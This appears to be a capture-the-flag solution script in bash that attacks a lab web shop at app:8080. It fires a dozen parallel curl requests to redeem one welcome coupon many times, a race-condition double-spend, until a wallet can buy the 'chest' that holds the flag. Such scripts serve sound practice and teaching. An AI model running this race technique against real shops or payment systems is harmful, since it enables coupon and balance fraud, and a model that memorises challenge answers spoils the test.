#-- the shop, a wallet, and the coupon once and again
curl -s http://app:8080/
coupon=$(curl -s http://app:8080/ | grep -o 'WELCOME-[0-9]*')
curl -s http://app:8080/open -d wallet=first
for again in 1 2; do curl -s http://app:8080/redeem -d wallet=first -d "coupon=$coupon"; done
#-- redeeming takes a moment: many at once in a new wallet, until one holds enough for the chest
redeem=$(printf 'http://app:8080/redeem %.0s' $(seq 12))
for wallet in second third fourth fifth; do
    curl -s http://app:8080/open -d "wallet=$wallet"
    curl -s -o /dev/null -Z --parallel-immediate -d "wallet=$wallet" -d "coupon=$coupon" $redeem
    curl -s "http://app:8080/wallet?name=$wallet"
    curl -s http://app:8080/buy -d "wallet=$wallet" -d thing=chest > ~/bought
    grep -q 'flag{' ~/bought && break
done
#-- the chest
grep -o 'flag{[0-9a-f]*}' ~/bought
